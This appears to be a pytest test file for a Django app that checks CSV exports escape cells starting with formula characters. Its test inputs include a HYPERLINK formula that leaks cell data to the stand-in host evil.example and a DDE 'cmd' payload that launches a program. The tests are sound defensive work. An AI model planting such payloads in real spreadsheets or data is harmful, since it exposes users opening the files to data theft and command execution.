"""CSV files the platform writes cannot carry a formula to the spreadsheet that opens them."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from carbonpoints.csv_cells import csv_cell
from redemption.models import Settlement

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]
)
def test_text_that_starts_a_formula_is_written_as_text(text):
    assert csv_cell(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone():
    assert [csv_cell(v) for v in ("Green Mart", "绿色超市", -5, 0, "")] == [
        "Green Mart",
        "绿色超市",
        -5,
        0,
        "",
    ]


def test_a_merchant_named_like_a_formula_downloads_a_harmless_settlement_csv(client, manager):
    manager.merchant.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    manager.merchant.save(update_fields=["name"])
    Settlement.objects.create(
        merchant=manager.merchant,
        day=date(2026, 11, 1),
        vouchers_consumed=1,
        voucher_points=100,
        points_total=100,
        amount_fen=100,
    )
    client.force_login(manager.user)
    rows = list(csv.reader(io.StringIO(client.get("/merchant/settlements.csv").content.decode())))
    assert rows[1][0] == "'" + manager.merchant.name and rows[1][1:4] == ["2026-11-01", "1", "100"]


def test_a_citizens_export_carries_no_formula_to_a_spreadsheet(citizen, citizen_client):
    import zipfile

    citizen.display_name = "=cmd|' /C calc'!A0"
    citizen.save(update_fields=["display_name"])

    archive = zipfile.ZipFile(io.BytesIO(citizen_client.get("/api/v1/me/export?as=zip").content))
    profile = list(csv.DictReader(io.StringIO(archive.read("profile.csv").decode("utf-8-sig"))))

    assert profile[0]["display_name"] == "'" + citizen.display_name
